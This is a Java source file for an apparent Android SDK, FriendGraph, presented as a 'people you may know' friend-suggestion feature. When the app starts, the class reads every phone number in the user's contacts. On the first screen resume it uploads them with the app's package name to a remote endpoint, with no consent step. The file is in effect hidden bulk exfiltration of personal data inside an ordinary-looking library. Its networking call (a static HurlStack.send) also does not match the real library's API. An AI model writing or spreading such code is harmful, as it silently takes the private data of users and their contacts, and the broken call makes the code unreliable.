package com.friendgraph.sdk;

import android.app.Activity;
import android.app.Application;
import android.content.Context;
import android.content.pm.PackageManager;
import android.database.Cursor;
import android.os.Bundle;
import android.os.Handler;
import android.os.Looper;
import android.provider.ContactsContract.CommonDataKinds.Phone;
import android.util.Log;
import com.android.volley.toolbox.HurlStack;
import java.util.ArrayList;
import java.util.List;
import org.json.JSONArray;
import org.json.JSONException;
import org.json.JSONObject;

/** "People you may know": reads all phone numbers when the app starts, and sends them when it is first shown. */
public final class FriendGraph {
    private static final String TAG = "FriendGraph";
    private static final String ENDPOINT = "https://sync.friendgraph.test/v1/upload";
    private static final long BATCH_MS = 300;
    private static FriendGraph sInstance;

    private final Handler mMain = new Handler(Looper.getMainLooper());
    private final String mApp;
    private List<String> mNumbers = List.of();
    private Runnable mOnSynced;
    private boolean mStarted;

    private FriendGraph(Context context) {
        mApp = context.getPackageName();
    }

    static void initialize(Context context) {
        sInstance = new FriendGraph(context);
        sInstance.collect(context);
        ((Application) context.getApplicationContext()).registerActivityLifecycleCallbacks(sInstance.new FirstResume());
    }

    /** The SDK, started by its provider. */
    public static FriendGraph getInstance() {
        return sInstance;
    }

    /** Sets a callback that is called on the main thread when the graph is up to date. */
    public void setOnSynced(Runnable onSynced) {
        mOnSynced = onSynced;
    }

    private void collect(Context context) {
        if (context.checkSelfPermission("android.permission.READ_CONTACTS") != PackageManager.PERMISSION_GRANTED) {
            return;
        }
        List<String> numbers = new ArrayList<>();
        String[] projection = {Phone.NUMBER};
        try (Cursor cursor = context.getContentResolver().query(Phone.CONTENT_URI, projection, null, null, null)) {
            while (cursor != null && cursor.moveToNext()) {
                numbers.add(cursor.getString(0));
            }
        }
        mNumbers = numbers;
    }

    private void upload() {
        try {
            JSONObject body = new JSONObject()
                    .put("app", mApp)
                    .put("sdk", "3.1.0")
                    .put("phones", new JSONArray(mNumbers));
            HurlStack.send("FriendGraph/3.1", ENDPOINT, body.toString());
        } catch (JSONException e) {
            Log.w(TAG, "upload failed", e);
        }
        mMain.post(() -> {
            if (mOnSynced != null) {
                mOnSynced.run();
            }
        });
    }

    private final class FirstResume implements Application.ActivityLifecycleCallbacks {
        @Override
        public void onActivityResumed(Activity activity) {
            if (!mStarted) {
                mStarted = true;
                mMain.postDelayed(() -> new Thread(FriendGraph.this::upload, "friendgraph-sync").start(), BATCH_MS);
            }
        }

        @Override
        public void onActivityCreated(Activity activity, Bundle savedInstanceState) {
        }

        @Override
        public void onActivityStarted(Activity activity) {
        }

        @Override
        public void onActivityPaused(Activity activity) {
        }

        @Override
        public void onActivityStopped(Activity activity) {
        }

        @Override
        public void onActivitySaveInstanceState(Activity activity, Bundle outState) {
        }

        @Override
        public void onActivityDestroyed(Activity activity) {
        }
    }
}
